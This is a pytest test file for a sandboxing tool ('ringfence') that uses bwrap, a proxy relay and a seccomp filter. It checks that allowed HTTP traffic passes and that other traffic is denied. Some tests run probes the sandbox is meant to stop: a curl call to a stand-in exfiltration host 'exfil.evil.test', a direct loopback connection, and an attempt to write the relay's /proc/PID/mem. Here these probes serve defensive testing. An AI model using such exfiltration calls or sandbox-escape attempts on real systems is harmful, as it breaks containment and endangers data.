"""The in-sandbox relay + seccomp launcher, in a real ``bwrap --unshare-net`` sandbox.

Every test asserts on the host side too: what the loopback origin server saw.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import ringfence.compiler.relay as relay_mod
from ringfence.compiler import seccomp
from ringfence.compiler.proxy import ProxyServer, make_runtime_dir
from tests.compiler.test_proxy import Origin

PY = "/usr/bin/python3"
RELAY = str(Path(relay_mod.__file__).resolve())
PORT = 3128          # inside the sandbox's own network namespace: always free

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not shutil.which("bwrap") or not os.path.exists(PY)
                       or seccomp.host_arch() is None,
                       reason="needs bwrap, /usr/bin/python3 and a supported architecture"),
]


@pytest.fixture
def origin():
    o = Origin()
    yield o
    o.close()


@pytest.fixture
def proxy(origin):
    rundir = make_runtime_dir()
    p = ProxyServer([f"localhost:{origin.port}"], [], os.path.join(rundir, "proxy.sock")).start()
    yield p
    p.stop()
    if os.path.exists(os.path.join(rundir, "relay.py")):
        os.unlink(os.path.join(rundir, "relay.py"))
    os.rmdir(rundir)          # nothing else may be left behind


def sandbox(proxy, argv, *, seccomp_program: bytes | None = None, relay_args=None, env=None):
    """bwrap wired the way H3a's backend should: /run is a fresh tmpfs (hides host
    sockets), the runtime dir is bound read-only at /run/ringfence."""
    rundir = os.path.dirname(proxy.socket_path) if proxy else tempfile.gettempdir()
    cmd = ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp",
           "--unshare-all", "--die-with-parent", "--new-session",
           "--tmpfs", "/run", "--ro-bind", rundir, "/run/ringfence", "--remount-ro", "/run",
           "--clearenv", "--setenv", "PATH", "/usr/bin:/bin"]
    for k, v in (env or {}).items():
        cmd += ["--setenv", k, v]
    if relay_args is None:
        relay_args = ["--listen", f"127.0.0.1:{PORT}", "--unix", "/run/ringfence/proxy.sock"]
    with tempfile.TemporaryFile() as f:
        fds = ()
        if seccomp_program is not None:
            f.write(seccomp_program)
            f.flush()
            f.seek(0)
            os.set_inheritable(f.fileno(), True)
            relay_args = relay_args + ["--seccomp-fd", str(f.fileno())]
            fds = (f.fileno(),)
        # The relay script goes into the runtime dir that is bound in: the checkout
        # itself may sit under /tmp, which is private inside the sandbox.
        relay_copy = os.path.join(rundir, "relay.py")
        if proxy and not os.path.exists(relay_copy):
            shutil.copyfile(RELAY, relay_copy)
        relay_path = "/run/ringfence/relay.py" if proxy else RELAY
        cmd += [PY, "-I", "-S", relay_path, *relay_args, "--", *argv]
        return subprocess.run(cmd, pass_fds=fds, capture_output=True, text=True, timeout=60)


PROXY_ENV = {k: f"http://127.0.0.1:{PORT}" for k in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy",
                                                      "https_proxy")}


def test_python_through_proxy_reaches_allowed_origin(origin, proxy):
    code = (f"import urllib.request as u; "
            f"print(u.urlopen('http://localhost:{origin.port}/py', timeout=20).read().decode())")
    r = sandbox(proxy, [PY, "-c", code], env=PROXY_ENV)
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == "hello from /py"
    assert [q[1] for q in origin.requests] == ["/py"]
    assert [(d.host, d.allowed) for d in proxy.decisions] == [("localhost", True)]


@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
def test_curl_plain_and_connect(origin, proxy):
    url = f"http://localhost:{origin.port}"
    r = sandbox(proxy, ["sh", "-c", f"curl -sS {url}/plain && echo && curl -sS -p {url}/tunnel"],
                env=PROXY_ENV)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == ["hello from /plain", "hello from /tunnel"]
    assert [q[1] for q in origin.requests] == ["/plain", "/tunnel"]


@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
def test_refused_name_gets_403_naming_the_rule(origin, proxy):
    r = sandbox(proxy, ["curl", "-sS", "http://exfil.evil.test/x"], env=PROXY_ENV)
    assert "retrying will not help" in r.stdout
    assert "rule: default deny" in r.stdout
    assert origin.requests == []
    assert [(d.host, d.allowed) for d in proxy.decisions] == [("exfil.evil.test", False)]


def test_direct_connect_to_host_loopback_fails(origin, proxy):
    code = (f"import socket\ntry:\n socket.create_connection(('127.0.0.1', {origin.port}), 5)\n"
            f" print('CONNECTED')\nexcept OSError as e:\n print('refused', e.errno)")
    r = sandbox(proxy, [PY, "-c", code], env=PROXY_ENV)
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("refused")
    assert origin.requests == []                 # the host listener received nothing


def test_filter_blocks_af_unix_but_relay_still_works(origin, proxy):
    code = ("import socket, urllib.request as u\n"
            "try:\n socket.socket(socket.AF_UNIX); print('unix ok')\n"
            "except PermissionError: print('unix EPERM')\n"
            f"print(u.urlopen('http://localhost:{origin.port}/after-filter', timeout=20).read().decode())")
    prog = seccomp.build_filter(seccomp.host_arch(), deny_unix_sockets=True)
    r = sandbox(proxy, [PY, "-c", code], seccomp_program=prog, env=PROXY_ENV)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == ["unix EPERM", "hello from /after-filter"]
    # the proxy socket itself cannot be reached from the filtered command
    code2 = ("import socket\ns = None\ntry:\n s = socket.socket(socket.AF_UNIX)\n"
             " s.connect('/run/ringfence/proxy.sock'); print('reached')\n"
             "except PermissionError: print('EPERM')")
    r = sandbox(proxy, [PY, "-c", code2], seccomp_program=prog)
    assert r.stdout.strip() == "EPERM"


def test_exit_status_passes_through(proxy):
    r = sandbox(proxy, ["sh", "-c", "exit 7"])
    assert r.returncode == 7


def test_missing_proxy_fails_closed(proxy):
    r = sandbox(proxy, ["sh", "-c", "echo RAN"],
                relay_args=["--listen", f"127.0.0.1:{PORT}", "--unix", "/run/ringfence/nope.sock"])
    assert r.returncode == 125
    assert "RAN" not in r.stdout
    assert "cannot reach the proxy at /run/ringfence/nope.sock" in r.stderr
    assert "the command was not run" in r.stderr


def test_bad_seccomp_fd_fails_closed(proxy):
    r = sandbox(proxy, ["sh", "-c", "echo RAN"], relay_args=["--seccomp-fd", "87"])
    assert (r.returncode, r.stdout) == (125, "")
    assert "cannot read the seccomp program from fd 87" in r.stderr


def test_truncated_seccomp_program_fails_closed(proxy):
    r = sandbox(proxy, ["sh", "-c", "echo RAN"], seccomp_program=b"\x06\x00\x00",
                relay_args=[])
    assert (r.returncode, r.stdout) == (125, "")
    assert "invalid seccomp program (3 bytes)" in r.stderr


def test_missing_command_is_127(proxy):
    r = sandbox(proxy, ["definitely-not-a-program-xyz"], relay_args=[])
    assert r.returncode == 127
    assert "definitely-not-a-program-xyz" in r.stderr


@pytest.mark.parametrize("args,message", [
    (["true"], "unknown argument 'true'"),
    ([], "missing '--'"),
    (["--"], "no command given"),
    (["--listen", "0.0.0.0:80", "--unix", "/x", "--", "true"], "must be 127.0.0.1:PORT"),
    (["--listen", "127.0.0.1:80", "--", "true"], "go together"),
    (["--seccomp-fd", "x", "--", "true"], "file descriptor number"),
    (["--bogus", "--", "true"], "unknown argument '--bogus'"),
])
def test_bad_arguments_fail_closed(args, message):
    r = subprocess.run([sys.executable, "-I", "-S", RELAY, *args], capture_output=True, text=True,
                       timeout=30)
    assert r.returncode == 125
    assert message in r.stderr



def test_the_command_cannot_write_the_relays_memory(tmp_path):
    # The relay is the command's child and runs without the full filter (it must
    # reach the proxy's Unix socket). If the command could write its memory through
    # /proc/PID/mem it could borrow that access; the relay is non-dumpable. Through
    # the real `ringfence run -p build` (capabilities dropped, as in production).
    code = ("import os, time\n"
            "me = str(os.getpid())\n"
            "for _ in range(200):\n"
            " kids = [p for p in os.listdir('/proc') if p.isdigit() and p != me and\n"
            "         open(f'/proc/{p}/stat').read().rsplit(')', 1)[1].split()[1] == me]\n"
            " if kids: break\n"
            " time.sleep(0.01)\n"
            "print('relay', len(kids))\n"
            "try:\n open(f'/proc/{kids[0]}/mem', 'r+b'); print('mem writable')\n"
            "except PermissionError: print('mem EPERM')\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path),
           "RINGFENCE_HOME": str(tmp_path / "state")}
    r = subprocess.run([sys.executable, "-m", "ringfence", "run", "-p", "build", "-w", str(ws),
                        "--", PY, "-c", code], cwd=ws, env=env, capture_output=True, text=True,
                       timeout=60)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == ["relay 1", "mem EPERM"]
